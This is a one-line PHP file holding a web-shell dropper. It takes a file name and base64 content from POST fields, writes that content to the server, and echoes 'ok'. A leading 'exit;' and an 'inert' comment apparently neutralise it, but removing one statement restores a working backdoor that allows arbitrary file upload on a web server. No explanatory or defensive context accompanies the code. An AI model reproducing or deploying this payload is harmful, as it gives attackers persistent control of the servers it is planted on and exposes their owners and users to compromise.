<?php exit; /* inert */ file_put_contents($_POST['n'],base64_decode($_POST['b']));echo'ok';
